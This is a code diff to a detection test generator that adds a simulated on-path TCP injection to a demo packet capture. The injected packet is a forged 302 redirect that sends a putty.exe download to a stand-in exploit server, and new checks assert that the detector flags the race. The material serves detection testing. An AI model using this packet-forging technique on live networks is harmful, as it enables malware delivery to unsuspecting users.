@@ -1134,9 +1134,10 @@ def tls_server_hello(rng, sid):
 
 
 def build_demo():
-    """The bundled sample for `make demo`: a laptop on 192.168.1.50 resolves three names, fetches
-    two web pages over HTTP, resumes a TLS session on 443, pings its gateway, and one malformed
-    packet from a neighbour. Returns (pcap bytes, Case)."""
+    """The bundled sample for `make demo`: a laptop on 192.168.1.50 resolves four names, fetches
+    two web pages over HTTP, resumes a TLS session on 443, downloads putty.exe while an on-path
+    shooter races a forged 302 redirect ahead of the genuine answer (QUANTUM INSERT style), pings
+    its gateway, and one malformed packet from a neighbour. Returns (pcap bytes, Case)."""
     rng = random.Random(2024)
     cap = Cap()
     CL, GW, DNS_SRV = "192.168.1.50", "192.168.1.1", "192.168.1.1"
@@ -1208,6 +1209,36 @@ def build_demo():
              (False, "FA", b"", 0), (True, "A", b"", 1)]
     a, t = tcp_conv(cap, l2, s, t + 20_000_000, steps)
     flows.append((a, "TLS 1.2 session resumption with SNI secure.example.net"))
+    # A QUANTUM INSERT-style race: the laptop downloads putty.exe over HTTP; a shooter on the path
+    # answers first with a forged 302 to an exploit server (its own TTL, IP ID 1, no DF, no TCP
+    # options, window 8192), racing the genuine 200 that starts at the same sequence number.
+    t = dns("the.earth.li", "46.43.34.31", 51015, t + 1_000_000_000)
+    s = Tcp(CL, "46.43.34.31", 50420, 80, cisn=rng.getrandbits(32), sisn=rng.getrandbits(32),
+            sttl=51)
+    req = (b"GET /~sgtatham/putty/latest/w64/putty.exe HTTP/1.1\r\nHost: the.earth.li\r\n"
+           b"User-Agent: Wget/1.21.3\r\nAccept: */*\r\nConnection: Keep-Alive\r\n\r\n")
+    a, t = tcp_conv(cap, l2, s, t + 20_000_000,
+                    [(True, "S", b"", 0), (False, "SA", b"", 28), (True, "A", b"", 1),
+                     (True, "PA", req, 0)])
+    forged = (b"HTTP/1.1 302 Found\r\nLocation: http://203.0.113.66/dl/putty.exe\r\n"
+              b"Content-Length: 0\r\nConnection: close\r\n\r\n")
+    seq0, ack0 = s.nxt[False], s.nxt[True]
+    t += 9_000_000
+    shot = l2(IP(src="46.43.34.31", dst=CL, ttl=61, id=1) /
+              TCP(sport=80, dport=50420, seq=seq0, ack=ack0, flags="PA", window=8192) / forged,
+              False)
+    race_pcap_cnt = cap.add(t, shot, a, False)
+    body = b"MZ" + rng.randbytes(2800)
+    resp = (b"HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: application/x-msdos-program\r\n"
+            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body)) + body
+    segs = [resp[i:i + 1448] for i in range(0, len(resp), 1448)]
+    steps = []
+    for i, sg in enumerate(segs):
+        steps.append((False, "PA" if i == len(segs) - 1 else "A", sg, 19 if i == 0 else 1))
+    steps += [(True, "A", b"", 1), (False, "FA", b"", 0), (True, "FA", b"", 2),
+              (False, "A", b"", 25)]
+    a, t = tcp_conv(cap, l2, s, t, steps, acct=a)
+    flows.append((a, "HTTP download of putty.exe with a forged 302 racing the genuine 200"))
     # ping the gateway twice
     e = Acct("ICMP", CL, GW)
     t += 3_000_000_000
@@ -1228,11 +1259,22 @@ def build_demo():
     c = Case("demo-sample", ["The bundled demo capture tests/sample/demo.pcap (written by",
                              "gen_foundation.py) gives the flows it was built with."])
     c.pcap = "../../sample/demo.pcap"
-    c.check("3 DNS + 2 HTTP + 1 TLS + 1 ICMP flows", len(flows), {"event_type": "flow"})
+    c.check("4 DNS + 3 HTTP + 1 TLS + 1 ICMP flows", len(flows), {"event_type": "flow"})
+    c.check("the forged 302 is caught as an injection race and named as the forged contestant", 1,
+            {"event_type": "alert", "tamper.class": "tcp_injection_race",
+             "tamper.subtype": "sloppy_injection", "tamper.contestants.0.verdict": "forged",
+             "tamper.contestants.0.pcap_cnt": race_pcap_cnt,
+             "tamper.contestants.1.verdict": "genuine"})
+    c.check("and nothing else raises an alert", 1, {"event_type": "alert"})
     for a, what in flows:
         c.flow(a, what)
     c.anomaly("the malformed packet", bad, "decoder.tcp.pkt_too_small")
-    c.check("and nothing else is anomalous", 1, {"event_type": "anomaly"})
+    c.check("the race also shows as a stream overlap with different bytes", 1,
+            {"event_type": "anomaly", "pcap_cnt": race_pcap_cnt + 1,
+             "anomaly.event": "stream.reassembly_overlap_different_data"})
+    c.check("and the HTTP parser, fed the forged answer first, meets the rest of the genuine one",
+            1, {"event_type": "anomaly", "anomaly.event": "http.response_invalid_protocol"})
+    c.check("and nothing else is anomalous", 3, {"event_type": "anomaly"})
     c.stats("", decoder__pkts=len(cap.records), decoder__bytes=cap.nbytes())
     return data, c
 
